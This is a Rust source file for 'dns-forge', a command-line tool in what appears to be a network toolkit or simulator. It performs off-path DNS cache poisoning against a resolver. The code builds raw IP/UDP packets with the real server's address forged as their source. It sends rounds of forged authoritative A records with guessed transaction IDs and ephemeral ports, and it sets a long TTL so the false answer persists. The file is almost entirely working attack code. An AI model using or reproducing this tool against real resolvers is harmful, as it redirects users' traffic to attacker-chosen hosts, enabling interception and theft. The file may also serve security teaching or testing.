//! `dns-forge`: has a resolver ask for a name, and sends it forged answers before the true one comes, from off the path.

use core::time::Duration;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use hickory_proto::op::{Message, MessageType, OpCode, Query};
use hickory_proto::rr::rdata::A;
use septet_core::{Frame, Metric, Storey};
use septet_socket::{BoxFuture, NetExt, NetRef, PacketSocket};
use septet_wire::ethernet::{EtherType, MacAddr};
use septet_wire::{ipv4, protocol, udp};

use super::args::{self, Arg, ArgError, At, Spec, value};
use super::arpspoof::whereabouts;
use super::names::Names;
use super::{Context, Misuse, Needs, Program, complain};
use crate::dns::{Family, Name, PORT, RData, Record, RecordType};

/// The program.
pub(super) struct DnsForge;

impl Program for DnsForge {
    fn name(&self) -> &'static str {
        "dns-forge"
    }

    fn summary(&self) -> &'static str {
        "sends a resolver forged answers, from off the path"
    }

    fn usage(&self) -> &'static str {
        "Usage: dns-forge [options] -f <server> <resolver> <name>
 -a <address>    What the forged answers say (this host's address)
 -c <count>      So many rounds (10): in each the resolver is asked once
 -f <server>     Whose answers are forged: its address stands in them
 -i <interval>   Seconds between two rounds (5)
 -n <answers>    Forged answers in a round (100)
 -p <port>       The resolver's port to which they go (each another)
 -s <id>         The identifier of the first; the next has the next (each another)
 -t <ttl>        For how many seconds they are to be believed (3600)
"
    }

    fn metrics(&self) -> &'static [Metric] {
        METRICS
    }

    fn check(&self, args: &[String]) -> Result<Needs, Misuse> {
        let options = Options::parse(args).map_err(|e| Misuse::by(&e, SPECS))?;
        let hosts = [options.resolver, options.server].into_iter().chain(options.address).collect();
        Ok(Needs { hosts, ..Needs::default() })
    }

    fn run(&self, context: Context, args: Vec<String>) -> BoxFuture<'static, u8> {
        Box::pin(async move {
            match Options::parse(&args) {
                Ok(options) => match forge(&context, &options).await {
                    Ok(()) => 0,
                    Err(why) => complain(&context, "dns-forge", &why, 1),
                },
                Err(e) => complain(&context, "dns-forge", &e, 2),
            }
        })
    }
}

struct Options {
    resolver: String,
    name: Option<Name>,
    server: String,
    address: Option<String>,
    rounds: u32,
    interval: Duration,
    answers: u32,
    port: Option<u16>,
    id: Option<u16>,
    ttl: u32,
}

const SPECS: &[Spec] = &[
    value('a', ""),
    value('c', ""),
    value('f', ""),
    value('i', ""),
    value('n', ""),
    value('p', ""),
    value('s', ""),
    value('t', ""),
];

impl Options {
    fn parse(words: &[String]) -> Result<Self, At<ArgError>> {
        let mut options = Self {
            resolver: String::new(),
            name: None,
            server: String::new(),
            address: None,
            rounds: 10,
            interval: Duration::from_secs(5),
            answers: 100,
            port: None,
            id: None,
            ttl: 3600,
        };
        args::each(SPECS, words, |arg| {
            match arg {
                Arg::Free(word) if options.resolver.is_empty() => options.resolver = word,
                Arg::Free(word) if options.name.is_none() => {
                    let mut name = Name::from_ascii(&word).map_err(|_| args::bad("name", &word, "a domain name"))?;
                    name.set_fqdn(true);
                    options.name = Some(name);
                }
                Arg::Free(word) => return Err(ArgError::Extra(word)),
                Arg::Value(name, text) => match name.as_str() {
                    "a" => options.address = Some(text),
                    "c" => options.rounds = args::within("-c", &text, 1, u32::MAX, "a number from 1 on")?,
                    "f" => options.server = text,
                    "i" => options.interval = args::span("-i", &text)?,
                    "n" => options.answers = args::within("-n", &text, 1, 1_000_000, "a number from 1 to 1000000")?,
                    "p" => options.port = Some(args::port("-p", &text)?),
                    "s" => options.id = Some(args::number("-s", &text)?),
                    _ => options.ttl = args::number("-t", &text)?,
                },
                Arg::Flag(_) => {}
            }
            Ok(())
        })?;
        if options.resolver.is_empty() {
            return Err(ArgError::Missing("the resolver").into());
        }
        if options.name.is_none() {
            return Err(ArgError::Missing("the name").into());
        }
        if options.server.is_empty() {
            return Err(ArgError::Missing("-f, the server").into());
        }
        Ok(options)
    }
}

/// Where forged answers go, and what they say.
struct Forger<'a> {
    net: &'a NetRef,
    options: &'a Options,
    name: &'a Name,
    socket: PacketSocket,
    mac: MacAddr,
    resolver: Ipv4Addr,
    server: Ipv4Addr,
    address: Ipv4Addr,
}

async fn forge(context: &Context, options: &Options) -> Result<(), String> {
    let (net, Some(name)) = (&context.net, &options.name) else { return Ok(()) };
    let names = Names::new(net.clone());
    let v4 = async |host: &str| match names.address(host, Family::V4).await {
        Ok(IpAddr::V4(address)) => Ok(address),
        Ok(_) => Err(format!("{host}: not an IPv4 address")),
        Err(why) => Err(format!("{host}: {why}")),
    };
    let (resolver, server) = (v4(&options.resolver).await?, v4(&options.server).await?);
    let admin = net.admin().map_err(|e| e.to_string())?;
    let path = admin.path_to(resolver.into()).map_err(|e| e.to_string())?;
    let IpAddr::V4(own) = path.source else { return Err(format!("{resolver}: not reached by IPv4")) };
    let links = admin.links().map_err(|e| e.to_string())?;
    let link = links.into_iter().find(|link| Some(link.iface) == path.iface);
    let link = link.ok_or_else(|| format!("{resolver}: no link leads there"))?;
    let next = match path.gateway {
        Some(IpAddr::V4(gateway)) => gateway,
        _ => resolver,
    };
    let address = match &options.address {
        Some(host) => v4(host).await?,
        None => own,
    };
    let open = |protocol| net.open_packet(&link.name, protocol).map_err(|e| format!("socket: {e}"));
    let (arp, socket) = (open(EtherType::ARP)?, open(EtherType::IPV4)?);
    let mac = whereabouts(net, &arp, &link, own, next).await;
    let mac = mac.ok_or_else(|| format!("couldn't arp for host {next}"))?;
    let forger = Forger { net, options, name, socket, mac, resolver, server, address };
    let mut at = net.now();
    for round in 1..=options.rounds {
        forger.round().await?;
        let line =
            format!("round {round}: {} forged answers for {name} {address}, as if from {server}\n", options.answers);
        context.console.out(line.as_bytes());
        at += options.interval;
        net.sleep_until(at).await;
    }
    Ok(())
}

impl Forger<'_> {
    /// Has the resolver ask, and answers before the server does.
    async fn round(&self) -> Result<(), String> {
        let Self { net, options, name, resolver, .. } = self;
        let mut question = Message::new(net.random_u64() as u16, MessageType::Query, OpCode::Query);
        question.metadata.recursion_desired = true;
        question.add_query(Query::query((*name).clone(), RecordType::A));
        let question = question.to_vec().map_err(|e| e.to_string())?;
        let to = SocketAddr::from((*resolver, PORT));
        let asking = net.open_udp(to.ip()).map_err(|e| e.to_string())?;
        asking.send_to(&question, to).await.map_err(|e| e.to_string())?;
        // What comes before the resolver has asked is an answer to nothing.
        net.sleep(Duration::from_millis(1)).await;
        net.trace(Storey::Application, "dns-forge.round", |f| {
            f.set("to", IpAddr::V4(*resolver)).set("as", IpAddr::V4(self.server)).set("name", name.to_ascii());
            f.set("is", IpAddr::V4(self.address)).set("answers", options.answers);
        });
        for number in 0..options.answers {
            /// The ports that Linux, and resolvers with it, choose from.
            const PORTS: core::ops::Range<u64> = 32_768..61_000;
            let random = net.random_u64();
            let id = options.id.map_or(random as u16, |first| first.wrapping_add(number as u16));
            let some = PORTS.start + (random >> 16) % (PORTS.end - PORTS.start);
            let port = options.port.unwrap_or(some as u16);
            self.send(id, port)?;
        }
        Ok(())
    }

    /// One answer, with the server's address as its source.
    fn send(&self, id: u16, port: u16) -> Result<(), String> {
        let mut answer = Message::new(id, MessageType::Response, OpCode::Query);
        answer.metadata.authoritative = true;
        answer.add_query(Query::query(self.name.clone(), RecordType::A));
        answer.add_answer(Record::from_rdata(self.name.clone(), self.options.ttl, RData::A(A(self.address))));
        let mut frame = Frame::new(64, &answer.to_vec().map_err(|e| e.to_string())?);
        let (src, dst) = (self.server, self.resolver);
        udp::Header { src_port: PORT, dst_port: port }.push(src.into(), dst.into(), &mut frame);
        let total_len = u16::try_from(frame.bytes().len() + 20).map_err(|e| e.to_string())?;
        let header = ipv4::Header {
            tos: 0,
            total_len,
            ident: self.net.random_u64() as u16,
            dont_fragment: false,
            more_fragments: false,
            fragment_offset: 0,
            ttl: 64,
            protocol: protocol::UDP,
            src,
            dst,
            header_len: 20,
        };
        header.push(&mut frame);
        self.socket.send(frame.bytes(), self.mac).map_err(|e| e.to_string())?;
        self.net.count("forge.sent");
        Ok(())
    }
}

/// What it records.
const METRICS: &[Metric] = &[Metric::counter("forge.sent", "forged answers")];
